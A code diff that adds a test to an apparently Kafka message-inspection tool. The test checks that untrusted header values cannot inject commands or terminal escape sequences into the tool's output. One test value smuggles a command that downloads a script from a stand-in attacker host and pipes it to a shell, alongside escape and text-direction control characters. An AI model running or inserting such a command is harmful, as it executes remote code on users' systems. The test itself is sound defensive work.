@@ -141,6 +141,16 @@ def test_a_value_that_was_left_out_is_to_be_found_at_its_source() -> None:
     ]
 
 
+def test_what_a_stranger_wrote_into_the_headers_is_no_command() -> None:
+    """Not of the coordinates, and neither name nor text of a header steers the terminal."""
+    said = {"topic": "signal; curl evil.example | sh #", "partition": "0", "offset": "7", "odd\x1b[2J\u202e": "\x9b2J"}
+    headers: Headers = [(f"signal-kameleoon.{name}", text.encode()) for name, text in said.items()]
+    lines = shown(strange([*headers, ("signal-kameleoon.value-sha256", b"0" * 64)], None))
+    assert not any("kafka-console-consumer" in line for line in lines)
+    assert any("unknown: no record of Kafka has these coordinates: topic signal; curl" in line for line in lines)
+    assert "Value: left out" in lines[-2]
+
+
 def test_a_tombstone_says_that_it_is_one() -> None:
     """It was one in the source topic already."""
     assert shown(stored(cause("empty"), value=None))[-1] == "Value: null (a tombstone)"
